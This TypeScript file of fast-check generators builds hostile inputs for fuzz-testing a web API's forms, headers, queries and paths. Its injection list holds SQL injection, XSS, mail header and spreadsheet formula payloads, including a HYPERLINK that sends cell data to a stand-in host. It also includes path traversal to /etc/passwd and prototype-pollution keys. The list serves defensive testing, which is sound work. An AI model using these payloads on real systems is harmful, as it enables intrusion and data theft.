import fc from "fast-check";

// What an attacker, a broken client or a tired person may put into any place of a request.

/** Is in every generated text, so that it can be found again wherever it must not be. */
export const MARK = "zqxw";

/** The domain of every generated email. */
const DOMAIN = `${MARK}.example`;

const INJECTIONS = [
  // SQL
  "'; DROP TABLE leads; --",
  `" OR 1=1 /*`,
  "%' UNION SELECT key FROM secrets; --",
  "?1 ?2 :name @name $name",
  // HTML and templates
  "<script>alert(1)</script>",
  `"><img src=x onerror=alert(1)>`,
  "<!--",
  "</p></body></html>",
  "<a href='javascript:alert(1)'>click</a>",
  "&lt;b&gt; &amp;amp; &#x3C;",
  "${7*7} {{7*7}} <%= 7*7 %>",
  // Headers of mails and of answers
  "\r\nBcc: everyone@elsewhere.example",
  "\nSubject: You won\n\n<h1>Click https://elsewhere.example</h1>",
  "a\u2028b\u2029c",
  "=?utf-8?B?PHNjcmlwdD4=?=",
  // Formulas of spreadsheets
  `=HYPERLINK("https://elsewhere.example?"&A1,"click")`,
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "x;=1+1",
  "x\n=1+1",
  "\ufeff=1+1",
  // Directions, and characters that are not seen
  "\u202egnp.exe",
  "\u2066\u2067\u2069\u200f\u061c",
  "\u200b\u200c\u200d\u2060\u00ad",
  "\u0000",
  "\u0001\u0007\u001b[2J\u007f\u0085",
  "e\u0301\u0327".repeat(20),
  "\ud800",
  "\udfff\ud800",
  "ﷺ🏳️‍🌈👨‍👩‍👧‍👦",
  // Names that mean something to JavaScript, paths and programs
  "__proto__",
  "constructor",
  "toString",
  "../../../../etc/passwd",
  "..\\..\\con.txt",
  "NaN",
  "Infinity",
  "1e999",
  "-0",
  "0x10",
  "９９９",
  "null",
  "true",
  "[object Object]",
  "https://elsewhere.example www.elsewhere.example",
] as const;

const injection = fc.constantFrom(...INJECTIONS);

/** A text of up to some hundred characters with the mark; now and then one that is far too long. */
export const text: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(injection, injection).map(([a, b]) => `${a}${MARK}${b}`) },
  { weight: 3, arbitrary: fc.string({ unit: "binary", maxLength: 60 }).map((any) => `${any}${MARK}`) },
  { weight: 2, arbitrary: injection.map((one) => `${MARK} ${one}`) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(injection, fc.constantFrom(60, 121, 201, 1001, 5001))
      .map(([one, length]) => `${MARK}${one.repeat(length)}`.slice(0, length)),
  },
);

/** Emails that are accepted, with all that a local part may hold, and texts that are none. */
export const email: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 5,
    arbitrary: fc.stringMatching(/^[a-z0-9!#$%&'*+/=?^_`{|}~-]{1,20}$/).map((local) => `${local}@${DOMAIN}`),
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(`=1+1@${DOMAIN}`, `'or'1'='1@${DOMAIN}`, `Åsa+x@${DOMAIN}`, `пример@${DOMAIN}`),
  },
  { weight: 2, arbitrary: fc.tuple(injection, injection).map(([a, b]) => `${a}@${DOMAIN}${b}`) },
  { weight: 1, arbitrary: text },
);

const number = fc.oneof(
  fc.double(),
  fc.integer(),
  fc.constantFrom(0, -0, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, 5e-324, 2 ** 63, Number.NaN),
);

/** Any JSON value, a deep one now and then. */
const jsonValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 2, arbitrary: number },
  {
    weight: 1,
    arbitrary: fc.constantFrom(true, false, null, "", " ", {}, [], [[[[[]]]]], { a: { b: { c: { d: {} } } } }),
  },
  { weight: 1, arbitrary: fc.array(text, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(text, text, { maxKeys: 3 }) },
);

/** Null nine times of ten. */
function rarely<Value>(arbitrary: fc.Arbitrary<Value>): fc.Arbitrary<Value | null> {
  return fc.oneof({ weight: 9, arbitrary: fc.constant(null) }, { weight: 1, arbitrary });
}

const prototypeKey = fc.constantFrom("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "length");

/** Fields nobody asked for, as JSON text, because `JSON.stringify` leaves `__proto__` out. */
const surplus = fc.tuple(fc.oneof(prototypeKey, text), jsonValue).map(([key, value]) => [key, value] as const);

/**
 * The body of a form or of an owner's call as JSON: the good fields, some of them replaced, left out or joined by others.
 * @param good fields that are accepted
 * @param special what to put into a field rather than any value
 */
export function jsonBody(good: Record<string, unknown>, special: Record<string, fc.Arbitrary<unknown>>) {
  const names = Object.keys({ ...good, ...special });
  return fc
    .record({
      special: fc.record(special),
      replaced: fc.oneof(
        { weight: 3, arbitrary: fc.constant<string[]>([]) },
        { weight: 2, arbitrary: fc.subarray(names, { maxLength: Math.min(2, names.length) }) },
      ),
      values: fc.array(jsonValue, { minLength: 2, maxLength: 2 }),
      surplus: rarely(surplus),
      broken: rarely(
        fc.constantFrom(
          "",
          "{",
          "[1]",
          "null",
          "7",
          `"x"`,
          "{}{}",
          "\u0000",
          deep(1000),
          deep(40_000),
          "x".repeat(70_000),
        ),
      ),
    })
    .map(({ special, replaced, values, surplus, broken }) => {
      if (broken !== null) return broken;
      const fields = {
        ...good,
        ...special,
        ...Object.fromEntries(replaced.map((name, index) => [name, values[index]])),
      };
      const entries = [...Object.entries(fields), ...(surplus ? [surplus] : [])];
      const stated = entries.filter(([, value]) => value !== undefined);
      const members = stated.map(([key, value]) => `${JSON.stringify(key)}:${JSON.stringify(value) ?? "null"}`);
      return `{${members.join(",")}}`;
    });
}

function deep(depth: number) {
  return `{"second_remark":"x","email":${"[".repeat(depth)}${"]".repeat(depth)}}`;
}

/** A text that can stand in a header: ASCII without line ends, which is all that the runtime lets through as it is. */
const headerValue = fc
  .oneof(text, fc.string({ maxLength: 40 }), fc.constantFrom("", "null", "*", "cross-site", "1", 'W/"x", *'))
  .map((value) =>
    value
      .replaceAll(/[^\t\x20-\x7e]/g, "")
      .trim()
      .slice(0, 500),
  );

const HEADERS = [
  "Accept",
  "Accept-Language",
  "Authorization",
  "CF-Connecting-IP",
  "Cf-Access-Jwt-Assertion",
  "If-None-Match",
  "Range",
  "Referer",
  "User-Agent",
  "X-Forwarded-For",
  "X-Request-Id",
  "X-D1-Bookmark",
] as const;

/** Headers that any client may send beside those that a case needs. */
export const headers: fc.Arbitrary<Record<string, string>> = fc.dictionary(fc.constantFrom(...HEADERS), headerValue, {
  maxKeys: 2,
});

/** Where a request says that it comes from; false: another site's page made a browser send it. */
export const FOREIGN_ORIGINS: readonly Record<string, string>[] = [
  { Origin: "https://elsewhere.example" },
  { Origin: "null" },
  { Origin: "https://homeward.example.elsewhere.example" },
  { Origin: "http://homeward.example" },
  { "Sec-Fetch-Site": "cross-site" },
  { "Sec-Fetch-Site": "same-site" },
];

/** Content types that no form is sent with. */
export const WRONG_TYPES = [
  "text/plain",
  "multipart/form-data; boundary=x",
  "application/json-patch+json",
  "text/html",
  "",
] as const;

const QUERY_NAMES = [
  "q",
  "source",
  "country",
  "from",
  "to",
  "tz",
  "sort",
  "limit",
  "cursor",
  "kind",
  "person",
  "signature",
];

/** A cursor that looks like one of ours, with any place in it. */
const cursor = fc
  .tuple(
    fc.constantFrom("newest", "oldest", "name", "email", "savings", "failed", "uncertain", "queued"),
    fc.oneof(number, text),
    text,
  )
  .map((place) => Buffer.from(JSON.stringify(place)).toString("base64url"));

const queryValue = fc.oneof(
  { weight: 3, arbitrary: text },
  { weight: 2, arbitrary: cursor },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      "",
      "1",
      "200",
      "0",
      "-1",
      "9999999",
      "2026-02-30",
      "9999-12-31",
      "2026-11-21",
      "Africa/Accra",
      "UTC",
      "name",
      "email",
      "newest",
      "hero",
      "waitlist_page",
    ),
  },
);

/** A query with the names that the API knows, any value, and names more than once. */
export const query: fc.Arbitrary<string> = fc
  .array(
    fc.tuple(
      fc.oneof({ weight: 8, arbitrary: fc.constantFrom(...QUERY_NAMES) }, { weight: 1, arbitrary: text }),
      queryValue,
    ),
    { maxLength: 4 },
  )
  .map((pairs) =>
    pairs.length === 0 ? "" : `?${pairs.map(([name, value]) => `${encode(name)}=${encode(value)}`).join("&")}`,
  );

/** A part of a path, encoded well or badly. */
export const segment: fc.Arbitrary<string> = fc.oneof(
  text.map(encode),
  fc.constantFrom(
    "1",
    "hero",
    "%E0%A4%A",
    "%",
    "%00",
    "%2e%2e",
    "..%2f..",
    "%25",
    "a%0d%0ab",
    "__proto__",
    "x".repeat(3000),
  ),
);

/** Lone halves of surrogate pairs cannot be encoded; a client would send the replacement character. */
export function encode(value: string): string {
  return encodeURIComponent(value.toWellFormed());
}
